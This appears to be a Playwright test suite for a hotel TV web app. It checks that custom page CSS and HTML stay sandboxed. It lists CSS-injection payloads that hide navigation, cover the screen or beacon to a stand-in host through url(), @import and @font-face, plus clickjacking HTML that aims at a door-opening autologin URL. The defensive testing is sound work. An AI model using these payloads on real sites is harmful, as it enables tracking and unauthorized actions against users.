import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { expect, it, onTestFinished } from 'vitest'
import { guest, startHotel } from './harness/index.ts'
import { hasOldChromium, oldTelevision } from './harness/oldChromium.ts'
import { arriveAt, onTopOf, openPage } from './hostile.ts'
import { arrive } from './journeys.ts'

const stranger = 'https://stranger.example'
const mark = '.mine { color: rgb(1, 2, 3) }'
const cover = `content: "x"; position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 2147483647; background: red`
const told = `background-image: url(${stranger}/told.png)`

/** Styles that reach out of the page by how they are written. */
const reaching = [
  `.a\\(, body::after { ${cover} }`,
  `[a='"'], html::before, header, nav { ${cover} }`,
  `[a="\\"], x"], nav, header, h1 { display: none }`,
  `.a\\,b, nav, header { display: none }`,
  `html:has(+ *), body:has(~ *), :root:has(nav) + * { display: none }`,
  `.mine:is(*), :is(html, body) nav, :where(html *) { display: none }`,
  `html:has(a[href*="/ONEapp/"]) nav, html:has(nav) header { ${told} }`,
  `:not(.x), *:not(html:has(nav) *) { outline: 1px } @media all { @supports (top: 0) { nav, :not(p) > nav { display: none } } }`,
  `:host-context(html) nav, :host nav, ::part(x), ::slotted(*), :scope nav, & nav { display: none }`,
  `.mine { nav & { ${told} } :root:has(nav) & { ${told} } & + nav, header { display: none } }`,
  `@scope (html) { nav { display: none } } @container (min-width: 1px) { nav { display: none } }`,
  `@starting-style { nav { display: none } } @layer a.b { nav, header { display: none } }`,
]

/** Styles that tell another host something, or take a part of the app for theirs. */
const telling = [
  `.mine { ${told} }`,
  `.mine { --a: url(${stranger}/told.png); background-image: var(--a) }`,
  `.mine { --a: ; background: url(${stranger}/told.png) var(--a) }`,
  `.mine { background-image: image-set("${stranger}/told.png" 1x); content: url(${stranger}/told.png) }`,
  `.mine { background-image: -webkit-image-set(url(${stranger}/told.png) 1x) }`,
  `.mine { background-image: u\\72l(${stranger}/told.png), url("${stranger}/told\\".png") }`,
  `.mine { list-style: url(${stranger}/told.png); border-image: url(${stranger}/told.png) 1; cursor: url(${stranger}/told.png), none }`,
  `.mine { mask: url(${stranger}/told.svg#a); filter: url(${stranger}/told.svg#a); clip-path: url(${stranger}/told.svg#a); shape-outside: url(${stranger}/told.png); float: left }`,
  `.mine::before { content: url(${stranger}/told.png) } .mine::after { content: "\\"" url(${stranger}/told.png) }`,
  `@keyframes a { from, to { ${told} } } .mine { animation: a 1s infinite }`,
  `@font-face { font-family: A; src: url(${stranger}/told.woff2) } .mine { font-family: A }`,
  `@font-face { font-family: A; src: local("url(/ONEapp/a)"), url("${stranger}/told.woff2?\\"") } .mine { font-family: A }`,
  `@import url(${stranger}/told.css); @namespace x url(${stranger}/told);`,
  `:lang(en) .mine, .mine:lang(en), .mine:dir(ltr) { ${told} }`,
]

/** What is asked of the other host from now on. */
function watched(page: Page) {
  const asked: string[] = []
  page.context().on('request', (request) => {
    if (request.url().startsWith(stranger)) asked.push(request.url())
  })
  return asked
}

const seen = (page: Page) =>
  page.evaluate(() => {
    const styles = ['header', 'nav', 'h1', 'body', 'html'].map((name) => {
      const { display, backgroundImage, outlineWidth } = getComputedStyle(
        document.querySelector(name) ?? document.body,
      )
      return [name, display, backgroundImage, outlineWidth]
    })
    const made = ['html', 'body'].flatMap((name) =>
      ['::before', '::after'].map(
        (pseudo) => getComputedStyle(document.querySelector(name) ?? document.body, pseudo).content,
      ),
    )
    return [...styles, made]
  })

const mine = '<p class="mine">Mine</p>'

/** Opens a page for each style, and waits until it has its style. */
async function wear(page: Page, styles: readonly string[], look: (style: string) => Promise<void>) {
  for (const [at, style] of styles.entries()) {
    await openPage(page, { id: 800 + at, html: mine, style: `${style} ${mark}` })
    const text = page.getByText('Mine')
    await expect
      .poll(() => text.evaluate((one) => getComputedStyle(one).color), { message: style })
      .toBe('rgb(1, 2, 3)')
    // What a style asks for is asked for when it is painted.
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))))
    await look(style)
  }
}

it('TRUST-10 a style reaches nothing of the app, however it is written', async () => {
  const { page } = await arriveAt({ html: mine, style: mark })
  const asked = watched(page)
  const before = await seen(page)
  await wear(page, reaching, async (style) => {
    expect.soft(await seen(page), style).toEqual(before)
    expect.soft(await onTopOf(page), style).toEqual([true, true, true])
  })
  expect(asked).toEqual([])
})

it('TRUST-10 a style tells no other host what it finds', async () => {
  const { origin } = await startHotel()
  const { page } = await guest()
  const asked = watched(page)
  await arrive(page, origin)
  await wear(page, telling, async (style) => expect.soft(asked.splice(0), style).toEqual([]))
})

it('PAGE-10 a page has its own pictures, sizes, motion and states', async () => {
  const { page, asked, allow } = await arriveAt({
    html: '<div class="box" id="box"><p class="mine" title="title">Mine</p></div><p style="color: rgb(4, 5, 6); position: fixed">Other</p>',
    style: `:root { --gap: 7px; --line: 3px solid rgb(1, 2, 3) }
      @keyframes blink { from, to { opacity: 0.5 } }
      @media (min-width: 1px) { #box > .mine:not(.other):nth-child(2n + 1) { margin: var(--gap); border: var(--line) } }
      .box:has(.mine), .box { background: linear-gradient(red, red), url(pool.webp) no-repeat; position: absolute }
      .mine { animation: blink 9s infinite }
      .mine::after { content: "[" attr(title) "]" }`,
  })
  allow(/pool\.webp/)
  const style = (text: string, property: string, pseudo?: string) =>
    page
      .getByText(text)
      .evaluate(
        (one, [name = '', part]) => getComputedStyle(one, part).getPropertyValue(name),
        [property, pseudo],
      )
  await expect.poll(() => style('Mine', 'margin-top')).toBe('7px')
  expect(await style('Mine', 'border-left')).toBe('3px solid rgb(1, 2, 3)')
  expect(await style('Mine', 'animation-name')).toBe('page-blink')
  const frames = await page.evaluate(() =>
    [...document.styleSheets].flatMap(({ cssRules }) =>
      [...cssRules]
        .filter(({ cssText }) => cssText.startsWith('@keyframes page-blink'))
        .map(({ cssText }) => cssText),
    ),
  )
  expect(frames.join()).toContain('opacity: 0.5')
  expect(await style('Mine', 'content', '::after')).toBe('"[title]"')
  expect([await style('Other', 'color'), await style('Other', 'position')]).toEqual([
    'rgb(4, 5, 6)',
    'static',
  ])
  expect(await page.locator('[class$="box"]').evaluate((box) => getComputedStyle(box).position)).toBe(
    'absolute',
  )
  await expect.poll(() => asked).toContain('/ONEapp/skins/aurora/custom/pool.webp')
})

const large = 'width: 100vw; height: 240px; max-width: none; max-height: none; top: 0; left: 0; margin: 0'
const evil = 'mode=kiosk&room=106&name=Schmidt&autologin=1&opendoor=101'
const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='

it.each([
  `<img src="${pixel}" alt="Press" width="99" height="99" usemap="#m"><map name="m"><area shape="default" href="/ONEapp/language?${evil}" alt="Press"></map>`,
  `<svg width="99" height="99"><a xlink:href="/ONEapp/language?${evil}"><text y="20">Press</text></a></svg>`,
  `<svg width="99" height="99"><a href="/ONEapp/language?${evil}" target="_top"><text y="20">Press</text></a></svg>`,
  `<svg width="99" height="99"><a><animate attributeName="href" values="/ONEapp/language?${evil}" begin="0s" fill="freeze"/><text y="20">Press</text></a></svg>`,
  `<form action="/ONEapp/language"><input type="hidden" name="room" value="106"><button>Press</button></form>`,
  `<button popovertarget="p">Press</button><div id="p" popover style="${large}">Over</div>`,
  `<button commandfor="d" command="show-modal">Press</button><dialog id="d" style="${large}">Over</dialog>`,
  `<dialog open style="${large}">Press</dialog>`,
  `<label for="content">Press</label><button accesskey="x" form="root">Press</button>`,
  `<a href="#" data-screen="/?${evil}">Press</a><a data-screen="/?${evil}">Press</a>`,
  `<p class="MuiBackdrop-root MuiDialog-root" role="dialog" aria-modal="true" style="${large}; position: fixed; z-index: 9999; box-shadow: 0 0 0 9999px red">Press</p>`,
])(
  'TRUST-11 one press of what a page shows leads nowhere and opens nothing above the app: %s',
  async (html) => {
    const { page } = await arriveAt({ html })
    const place = () => page.url().replace(/#.*/, '')
    const before = place()
    const cookies = async () =>
      (await page.context().cookies()).map(({ name, value }) => [name, value]).sort()
    const had = await cookies()
    const press = page.locator('main').getByText('Press').or(page.getByAltText('Press')).first()
    await press.click({ force: true })
    await expect.poll(() => onTopOf(page)).toEqual([true, true, true])
    expect(place()).toBe(before)
    expect(await cookies()).toEqual(had)
    expect(page.context().pages()).toHaveLength(1)
    expect(await page.evaluate(() => document.querySelector(':modal, :popover-open'))).toBeNull()
  },
)

it.skipIf(!hasOldChromium)('TRUST-10 the same holds in an engine of 2018 (Chromium 69)', async () => {
  const skins = await mkdtemp(join(tmpdir(), 'skins-'))
  onTestFinished(() => rm(skins, { recursive: true, force: true }))
  await mkdir(join(skins, 'aurora/custom'), { recursive: true })
  const old = reaching.filter(
    (style) => !/[:@](has|is|where|not|container|scope|starting-style|layer|host-context)|& /.test(style),
  )
  expect(old.length).toBeGreaterThan(2)
  const styles = [
    ...old,
    ':root:not(.x) + *, html ~ nav, body > nav, header { display: none }',
    ...telling.slice(0, 3),
  ]
  const page = { type: 'html', title: 'Hostile', list: [], html: true, style: true, script: false }
  for (const [at, style] of styles.entries()) {
    const write = (name: string, text: string) => writeFile(join(skins, 'aurora/custom', name), text)
    await write(`Custom_${800 + at}.json`, JSON.stringify(page))
    await write(`html_${800 + at}.html`, `${mine}<p style="position: fixed; ${told}">Other</p>`)
    await write(`style_${800 + at}.css`, `${style} ${mark}`)
  }
  const hotel = await startHotel({ skins })
  const { goto, evaluate, until, complaints } = await oldTelevision()
  const shown = `['header', 'h1', 'nav', '[class$="mine"]'].map(function (name) {
    var one = document.querySelector(name)
    return one && [getComputedStyle(one).display, getComputedStyle(one).backgroundImage, getComputedStyle(document.body, '::after').content].join()
  })`
  await goto(`${hotel.app}/?property=1&theme=1&mode=tv&room=101&name=Berger&autologin=1`)
  await until("document.querySelector('h1') && /^Good/.test(document.querySelector('h1').textContent)")
  let before: unknown
  for (const at of styles.keys()) {
    await evaluate(
      `history.pushState(null, '', '/ONEapp/cp/${800 + at}'), dispatchEvent(new PopStateEvent('popstate'))`,
    )
    await until(`document.querySelector('[data-page="${800 + at}"] [class$="mine"]')`)
    await until(
      "document.querySelector('[class$=\"mine\"]') && document.querySelector('nav') && getComputedStyle(document.querySelector('[class$=\"mine\"]')).color === 'rgb(1, 2, 3)'",
    )
    const now = await evaluate(shown)
    before ??= now
    expect.soft(now, styles[at]).toEqual(before)
    expect
      .soft(
        await evaluate(
          `performance.getEntriesByType('resource').filter(function (one) { return /stranger/.test(one.name) }).length`,
        ),
        styles[at],
      )
      .toBe(0)
    expect(await evaluate('getComputedStyle(document.querySelector(\'[class$="mine"] + p\')).position')).toBe(
      'static',
    )
  }
  expect(complaints).toEqual([])
})
